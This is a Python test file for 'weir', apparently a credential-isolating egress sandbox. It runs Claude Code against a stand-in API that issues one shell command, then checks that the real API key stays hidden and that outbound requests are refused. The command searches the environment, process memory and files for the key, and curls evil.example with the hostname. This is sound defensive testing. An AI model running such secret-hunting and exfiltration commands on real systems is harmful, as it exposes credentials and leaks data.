"""Claude Code, the real program, works inside with a key that it never sees.

It talks to a pretend API that asks it to run one shell command; the command looks for the key wherever it could be.
WEIR_CLAUDE names the program (by default the one that ./test installs under build/tools/claude)."""

import json
import os
import subprocess
import unittest

from harness import ROOT, SANITIZED, WeirTest, also_as_ordinary_user, main
from standins.messages_api import MessagesApi

CLAUDE = os.environ.get("WEIR_CLAUDE", os.path.join(ROOT, "build/tools/claude/node_modules/.bin/claude"))
KEY = "sk-ant-api03-REAL-4e1c7b90d2f64a55b7c8-the-real-key-AA"

# The key is put together at run time, so that the command itself and the conversation do not hold it, and handed to
# grep by a descriptor, so that grep's own command line does not.
LOOK = """
a=sk-ant-api03-REAL-4e1c7b90; b=d2f64a55b7c8-the-real-key-AA; key=$a$b
echo LOOKING as $(id -u)
env | grep -c -F -f /dev/fd/3 3<<<"$key" | sed 's/^/environment: /'
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -a -c -F -f /dev/fd/3 3<<<"$key" | sed 's/^/processes: /'
grep -r -l -a -F -s -f /dev/fd/3 /etc /run /tmp "$HOME" . 3<<<"$key" 2>/dev/null | wc -l | sed 's/^/files: /'
K=$key env | grep -c -F -f /dev/fd/3 3<<<"$key" | sed 's/^/search that must find: /'
echo "placeholder: $ANTHROPIC_API_KEY"
curl -sS -o /dev/null -w 'denied host: %{http_code}\\n' "https://evil.example/?d=$(hostname)" 2>&1
curl -sS -o /dev/null -w 'denied path: %{http_code}\\n' -X DELETE https://api.anthropic.com/v1/files/1 2>&1
echo written > made-by-claude.txt
echo LOOKED
"""


def nothing_else(request, connection):
    """What is not the Messages API: there, as a HEAD / wants to know, and with nothing to say."""
    connection.read_body(request, lambda _: None)
    connection.send(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")


@unittest.skipUnless(os.access(CLAUDE, os.X_OK), f"Claude Code is not at {CLAUDE}")
@also_as_ordinary_user
class ClaudeCode(WeirTest):
    def setUp(self):
        super().setUp()
        if self.user and not self.readable_by_others(os.path.realpath(CLAUDE)):
            self.skipTest("the ordinary user cannot read Claude Code where it is installed")
        self.api = MessagesApi(KEY, LOOK)
        self.server = self.https("api.anthropic.com", routes={"/": nothing_else, "/v1/messages": self.api,
                                                              "/v1/messages/count_tokens": self.api})
        self.environment["ANTHROPIC_API_KEY"] = KEY
        self.environment["PATH"] = os.path.dirname(CLAUDE) + ":" + self.environment["PATH"]

    def readable_by_others(self, path):
        while path != "/":
            if not os.stat(path).st_mode & 0o001:
                return False
            path = os.path.dirname(path)
        return True

    def turn(self, options=()):
        done = self.run_inside("claude", "-p", "Run the test's command.", "--dangerously-skip-permissions",
                               options=options, deadline=240 if SANITIZED else 120)
        self.assertEqual(done.status, 0, done)
        self.assertIn("The command has run.", done.out, done)
        return done

    def check(self, done):
        self.assertTrue(self.api.results, f"the command was not run\n{done}")
        result = self.api.results[-1]
        for line in ("environment: 0", "processes: 0", "files: 0", "search that must find: 1", "LOOKED"):
            self.assertIn(line, result.splitlines(), f"{result}\n{done}")
        self.assertNotIn("LOOKING as 0", result.splitlines())
        self.assertNotIn(KEY, result)
        self.assertTrue(self.api.keys)
        for keys in self.api.keys:
            self.assertEqual(keys, [KEY], "the API did not get the real key alone")
        self.assertTrue(os.path.exists(os.path.join(self.project, "made-by-claude.txt")), done)
        self.assertNotIn(KEY, str(done))
        self.assertNotIn(KEY, json.dumps(done.events))
        self.assertTrue(done.of("egress.request", host="api.anthropic.com", credential="anthropic"), done)
        self.assertTrue(done.of("dns.query", name="evil.example", verdict="refused"), done)
        self.assert_recorded_denial(done, "no_rule", host="api.anthropic.com", method="DELETE")
        denied = self.weir("log", "--denied")
        self.assertIn("evil.example", denied.out, denied)
        allowed = {d["host"] for d in done.of("egress.request")}
        self.assertEqual(allowed, {"api.anthropic.com"}, done)

    def test_G2_a_turn_with_a_policy_of_ones_own(self):
        self.policy("use: [anthropic]", resolve={"api.anthropic.com": self.server})
        self.check(self.turn())

    def test_G2_a_turn_with_the_key_in_the_store(self):
        del self.environment["ANTHROPIC_API_KEY"]
        setting = self.start("vault", "set", "anthropic", stdin=subprocess.PIPE)
        setting.process.stdin.write(KEY)
        self.assertEqual(setting.finish().status, 0)
        self.policy("""
            credentials:
              anthropic:
                from: store:anthropic
                hosts: [api.anthropic.com]
                inject: {header: x-api-key, format: "{secret}"}
            rules:
              - hosts: [api.anthropic.com]
                methods: [GET, HEAD, POST]
        """, resolve={"api.anthropic.com": self.server})
        self.check(self.turn())

    def test_a_missing_key_is_said_at_once_with_how_to_mend_it(self):
        del self.environment["ANTHROPIC_API_KEY"]
        done = self.run_inside("claude", "-p", "hello")
        self.assertEqual(done.status, 2, done)
        self.assertIn("ANTHROPIC_API_KEY", done.err, done)
        self.assertIn("weir vault set anthropic", done.err, done)
        self.assertEqual(done.events, [], done)

    def test_claude_code_tells_its_user_that_a_request_was_refused(self):
        self.policy("rules:\n  - hosts: [api.anthropic.com]\n    paths: [/nothing]\n",
                    resolve={"api.anthropic.com": self.server})
        done = self.run_inside("claude", "-p", "hello", deadline=240)
        self.assertNotEqual(done.status, 0, done)
        self.assertTrue(done.of("egress.denied", path="/v1/messages?beta=true") or
                        done.of("egress.denied", path="/v1/messages"), done)


if __name__ == "__main__":
    main()
